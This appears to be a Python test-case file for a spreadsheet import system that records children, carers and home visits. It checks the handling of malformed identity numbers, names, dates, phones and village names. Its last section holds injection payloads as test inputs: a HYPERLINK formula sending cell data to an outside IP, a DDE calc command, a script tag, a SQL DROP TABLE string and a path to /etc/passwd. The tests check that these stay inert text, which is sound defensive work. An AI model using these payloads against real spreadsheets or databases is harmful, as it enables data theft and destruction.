"""Values: numbers, names, days, telephones, places, and cells that would rather be programs."""

from __future__ import annotations

import datetime as dt
from functools import partial
from typing import Any

from tests.corpus.case import case, partly, refused, taken
from tests.corpus.makers import CARER, CHILD, ID, OTHER, VISIT, number, sends, table, text, village, visits

add = partial(case, "values")
GROUPED = "heading=2,title=2,total=1"
BARE = "heading=1"
IS_NUMBERED = ("SELECT count(*) FROM person WHERE child_ref <> alt_ref", [(1,)])
IS_NOT_NUMBERED = ("SELECT count(*), count(id_no) FROM person WHERE child_ref = alt_ref", [(1, 0)])
WRONG = ID[:-1] + ("3" if ID[-1] != "3" else "4")
OLD_CARER = CARER[:6] + CARER[8:17]
X_ID = next(n for order in range(400, 500, 2) if (n := number("20210305", order)).endswith("X"))
FALSE_DATE = number("20210230", 472)

# Identity numbers

for name, what, written in (
    ("with blanks inside", "printed in groups", f"{ID[:6]} {ID[6:14]} {ID[14:]}"),
    ("behind an apostrophe", "the spreadsheet's own mark for text", "'" + ID),
    (
        "in full width",
        "digits of a Chinese input method",
        ID.translate({ord(str(i)): 0xFF10 + i for i in range(10)}),
    ),
    ("between zero-width characters", "pasted from a web page", "\u200b" + ID + "\ufeff"),
    ("with a tab before it", "a csv trick to keep digits", "\t" + ID),
    ("with a lower-case x", "x is X", X_ID[:-1] + "x"),
    ("with a full-width x", "ｘ is X", X_ID[:-1] + "ｘ"),
):
    add(
        f"a number {name}",
        what,
        village({**CHILD, "身份证号": written}),
        taken(1, ignored=GROUPED),
        holds=IS_NUMBERED,
    )
add(
    "a number as a formula of text in a csv",
    'the export\'s own ="…" is the text inside it',
    sends("访.csv", lambda: text(table({**VISIT, "身份证号": f'"=""{ID}"""'})).encode()),
    taken(1, ignored=BARE),
    holds=IS_NUMBERED,
)
for name, written, code, what in (
    ("that a spreadsheet rounded", float(ID), "id_digits_lost", "its last digits are named as lost, none is guessed"),
    ("shown as 5.39902E+17", "5.39902E+17", "id_digits_lost", "the text of a rounded number"),
    ("with a wrong check digit", WRONG, "id_check_digit", "one digit is mistyped: which one is for the sender"),
    ("of 17 digits", ID[:-1], "id_form", "cut off: the check digit is not added"),
    ("of 15 digits for a child", ID[:15], "id_form",
     "none was issued after 1999: it is an 18-digit number cut short, and must not make a child of 1920"),
    ("of 15 digits that happen to be a day", OTHER["身份证号"][:15], "id_of_an_adult", "the rest reads as 1920"),
    ("with an impossible birth date", FALSE_DATE, "id_form", "30 February, whatever its check digit"),
    ("with a Cyrillic letter", X_ID[:-1] + "Х", "id_form", "a letter that only looks like X"),
    ("with a star in it", ID[:10] + "****" + ID[14:], "id_form", "masked by another office"),
    ("of the carer", CARER, "id_of_an_adult",
     "a grandmother's number in the child's column must not make the child eighty years old"),
    ("of the future", number("20310305", 472), "id_form", "nobody is born after the day of the report"),
):  # fmt: skip
    add(
        f"a number {name}",
        what,
        village({**CHILD, "身份证号": written}),
        taken(1, f"warning 台账!F5 {code}", ignored=GROUPED),
        holds=(
            IS_NOT_NUMBERED,
            ("SELECT birth_date, _invalid FROM child", [(dt.date(2021, 3, 5), "")]),
            ("SELECT _invalid FROM person", [(",id_no,",)]),
        ),
    )
add(
    "a wrong number and nothing else to go by",
    "without a birth date the child cannot be told: the row waits",
    visits({**VISIT, "身份证号": WRONG, "出生日期": None}),
    refused("warning 走访!D4 id_check_digit", "error 走访!C4 person_unidentified", quarantined=1,
            ignored="heading=1,title=2,total=1"),
)  # fmt: skip
for kind, written in (("text", OLD_CARER), ("a number", float(OLD_CARER))):
    add(
        f"a carer's number of 15 digits, kept as {kind}",
        "the old form of the same number is the same carer",
        village(CHILD, {**CHILD, **OTHER, "照护人身份证号": written}),
        taken(2, ignored=GROUPED),
        holds=("SELECT count(*), count(DISTINCT adult_ref) FROM relation WHERE role = 'carer'", [(2, 1)]),
    )
add(
    "a number in the place of the birth date",
    "said without repeating it",
    village({**CHILD, "出生日期": ID}),
    taken(1, "warning 台账!E5 not_a_date", ignored=GROUPED),
    holds=("SELECT birth_date FROM child", [(dt.date(2021, 3, 5),)]),
)

# Names

SAME_CHILD = ("SELECT count(*), count(DISTINCT child_ref) FROM visit", [(2, 1)])
BLANK_ID = {"身份证号": None}
for name, one, other in (
    ("blanks inside", "王梓", "王　 梓"),
    ("traditional characters", "張偉", "张伟"),
    ("zero-width characters", "王梓", "王\u200d梓\u2060"),
    ("variation selectors", "𠮷田", "𠮷\ufe00田\U000e0100"),
    ("soft hyphens and direction marks", "王梓", "\u2068王\u00ad梓\u2069"),
    ("pinyin behind it", "王梓", "王梓(wáng zǐ)"),
    ("compatibility characters", "李梓", "\uf9e1梓"),
    ("the middle dot ·", "阿依古丽·买买提", "阿依古丽•买买提"),
    ("the middle dot ・", "阿依古丽·买买提", "阿依古丽・买买提"),
    ("the middle dot ∙", "阿依古丽·买买提", "阿依古丽∙买买提"),
    ("a full stop as middle dot", "阿依古丽·买买提", "阿依古丽．买买提"),
):
    add(
        f"a name with {name}",
        "the same name: the same child in two visits",
        visits(
            {**VISIT, **BLANK_ID, "姓名": one},
            {**VISIT, **BLANK_ID, "姓名": other, "应访截止日期": "2026-06-30"},
        ),
        taken(2),
        holds=SAME_CHILD,
    )
for name, written in (
    ("of one character", "娜"),
    ("of ten characters", "阿卜杜热合曼·阿不都拉"),
    ("of Latin letters", "Na Thapa"),
    ("beyond the first plane", "𠮷𪚥"),
    ("with a circle for zero", "王〇"),
    ("with a described character", "王⿰亻⿱"),
):
    add(
        f"a name {name}",
        "a name",
        visits({**VISIT, **BLANK_ID, "姓名": written}),
        taken(1),
        holds=("SELECT count(name), max(_invalid) FROM person", [(1, "")]),
    )
for name, written in (
    ("with a lost character", "王?"),
    ("with a box for a character", "王□"),
    ("masked with a star", "王*"),
    ("of two children in one cell", "王梓、王桐"),
    ("of two children on two lines", "王梓\n王桐"),
    ("that is a number", "12"),
    ("that is a formula", "=1+1"),
    ("that is a script", "<script>alert(1)</script>"),
):
    add(
        f"a name {name}",
        "no name of one child: with a number the child is known by it, without one the row waits",
        visits(
            {**VISIT, "姓名": written}, {**VISIT, **BLANK_ID, "姓名": written, "应访截止日期": "2026-06-30"}
        ),
        partly(
            1,
            1,
            "warning 走访!C4 not_a_name",
            "warning 走访!C5 not_a_name",
            "error 走访!C5 person_unidentified",
        ),
        holds=("SELECT name, _invalid FROM person", [(None, ",name,")]),
    )

# Days

for written in (
    "2026.3.30",
    "2026年3月30日",
    "20260330",
    "2026/3/30",
    "2026-03-30 00:00:00",
    "２０２６．３．３０",
    "'2026-3-30",
):
    add(
        f"the day {written}",
        "one of the ways in which offices write a day",
        visits({**VISIT, "走访日期": written}),
        taken(1),
        holds=("SELECT visited_on FROM visit", [(dt.date(2026, 3, 30),)]),
    )
for name, written in (
    ("a serial", 46111),
    ("a whole number", 20260330),
    ("a real date", dt.date(2026, 3, 30)),
):
    add(
        f"a day as {name}",
        "a spreadsheet's cell",
        visits({**VISIT, "走访日期": written}),
        taken(1),
        holds=("SELECT visited_on FROM visit", [(dt.date(2026, 3, 30),)]),
    )
for name, written, code in (
    ("30 February", "2026-02-30", "no_such_day"),
    ("a month 13", "2026-13-04", "no_such_day"),
    ("with a year of two digits", "26.3.30", "not_a_date"),
    ("in the order of other countries", "03/04/2026", "not_a_date"),
    ("of the lunar calendar", "农历2026年二月十二", "not_a_date"),
    ("of the lunar calendar in digits", "农历2026-2-12", "not_a_date"),
    ("that is a span", "2026-03-01至2026-03-30", "not_a_date"),
    ("that is a month", "2026年3月", "day_missing"),
    ("that is a month as a number", 2026.3, "not_a_date"),
    ("in words", "上个月底", "not_a_date"),
    ("of another century", "1026-03-30", "not_a_date"),
    ("beyond every calendar", 99999, "not_a_date"),
    ("before every calendar", 0, "not_a_date"),
    ("of the future", "2027-03-30", "in_the_future"),
    ("as a serial in words", "46111", "not_a_date"),
):
    add(
        f"a day {name}",
        "unreadable is not blank, and no day is guessed",
        visits({**VISIT, "走访日期": written, "录入日期": None}),
        taken(1, f"warning 走访!G4 {code}"),
        holds=("SELECT visited_on, _invalid FROM visit", [(None, ",visited_on,")]),
    )
add(
    "a day that is only a month, where a month will do",
    "since when a parent is away may be known by the month",
    village({**CHILD, "父亲外出时间": "2025年2月"}),
    taken(1, ignored=GROUPED),
    holds=(
        "SELECT since, since_month_only FROM parent_migration WHERE parent = 'father'",
        [(dt.date(2025, 2, 1), True)],
    ),
)
add(
    "a required day that is none",
    "without the day by which it was due there is no visit to count: the row waits",
    visits({**VISIT, "应访截止日期": "2026-06-31"}, VISIT),
    partly(1, 1, "error 走访!F4 no_such_day"),
)
for written in ("—", "不详", "/", "空"):
    add(
        f"the blank {written}",
        "an office's word for not recorded",
        visits({**VISIT, "走访方式": written}),
        taken(1),
        holds=("SELECT mode, _invalid FROM visit", [(None, "")]),
    )

# Telephones

PHONE = "13900000000"
for name, written in (
    ("with +86", "+8613900000000"),
    ("with 0086", "0086 139 0000 0000"),
    ("with blanks", "139 0000 0000"),
    ("with dashes", "139–0000–0000"),
    ("as a number", 13900000000),
):
    add(
        f"a mobile number {name}",
        "the same eleven digits",
        village({**CHILD, "联系电话": written}),
        taken(1, ignored=GROUPED),
        holds=("SELECT count(phone), max(_invalid) FROM relation WHERE role = 'carer'", [(1, "")]),
    )
add(
    "a land line",
    "with its area code",
    village({**CHILD, "联系电话": "(0883)212-3456"}),
    taken(1, ignored=GROUPED),
    holds=("SELECT count(phone) FROM relation WHERE role = 'carer'", [(1,)]),
)
for name, written in (
    ("of ten digits", "1390000000"),
    ("of twelve digits", "139000000001"),
    ("without its area code", "2123456"),
    ("that is two", "13900000000/13900000001"),
    ("rounded by a spreadsheet", "1.39E+10"),
):
    add(
        f"a telephone number {name}",
        "not to be called: said, never completed",
        village({**CHILD, "联系电话": written}),
        taken(1, "warning 台账!X5 phone_form", ignored=GROUPED),
        holds=("SELECT phone, _invalid FROM relation WHERE role = 'carer'", [(None, ",phone,")]),
    )

# Places

for name, written, code in (
    ("by its name", "橄榄村", "530902001902"),
    ("by its code", "530902001902", "530902001902"),
    ("by township and name", "博尚镇响泉村", "530902102901"),
    ("by a name of long ago", "响泉村委会", "530902001901"),
    ("in traditional characters", "橄欖村", "530902001902"),
):
    add(
        f"a village {name}",
        "the place that the area ledger knows",
        visits({**VISIT, "村（社区）": written}),
        taken(1),
        holds=("SELECT village_code FROM person", [(code,)]),
    )
for name, written in (
    ("of a name that two have", "响泉村"),
    ("in the wrong township", "博尚镇橄榄村"),
    ("by a code of long ago", "533521101203"),
    ("that no ledger knows", "云上村"),
):
    add(
        f"a village {name}",
        "asked about, never chosen; the child is known by its number",
        visits({**VISIT, "村（社区）": written}),
        taken(1, "warning 走访!B4 unknown_area"),
        holds=("SELECT village_code FROM person", [(None,)]),
    )
add(
    "a sender of a village that two have",
    "whose children these are is asked",
    village(CHILD, sender="响泉村"),
    refused("error 台账!C5 sender_unknown", quarantined=1, ignored=GROUPED),
)
add(
    "a sender in the wrong township",
    "a village of another township is not taken for the one that is meant",
    village(CHILD, sender="博尚镇橄榄村"),
    refused("error 台账!C5 sender_unknown", quarantined=1, ignored=GROUPED),
)

# What would rather be a program


def _text_stays(written: str) -> tuple[str, list[tuple[Any, ...]]]:
    return "SELECT ethnicity FROM child", [(written,)]


for name, written in (
    ("a formula", "=1+1"),
    ("a function call", "@SUM(A1:A9)"),
    ("a link", '=HYPERLINK("http://192.0.2.1/"&A1)'),
    ("a command of old spreadsheets", "+cmd|' /C calc'!A0"),
    ("a script", "<script>alert(1)</script>"),
    ("a picture of Markdown", "![x](http://192.0.2.1/x.png)"),
    ("SQL", "'); DROP TABLE child; --"),
    ("a path", "../../etc/passwd"),
    ("a pattern", "{expected.__class__} %s %(x)s"),
):
    add(
        f"{name} in a cell of text",
        "kept as the text that it is; nothing runs",
        village({**CHILD, "民族": written}),
        taken(1, ignored=GROUPED),
        holds=_text_stays(written.lstrip("'")),
    )
for name, written in (
    ("a pattern", "{found.__class__}"),
    ("markup", "[red]是[/red]"),
    ("a picture", "![x](http://192.0.2.1)"),
):
    add(
        f"{name} in a cell of codes",
        "no answer of the list; the message shows it as text",
        visits({**VISIT, "走访方式": written}),
        taken(1, "warning 走访!H4 not_in_code_list"),
    )
add(
    "a cell of 32,767 characters",
    "as long as a spreadsheet allows, in a note: kept",
    visits({**VISIT, "走访情况记录": "字" * 32_767}),
    taken(1),
    holds=("SELECT length(note) > 32767 FROM visit", [(True,)]),
)
add(
    "a long cell where a word is expected",
    "the message does not repeat all of it",
    visits({**VISIT, "走访方式": "走" * 30_000}),
    taken(1, "warning 走访!H4 not_in_code_list"),
    holds=("SELECT max(length(found)) <= 40 FROM message", [(True,)]),
)
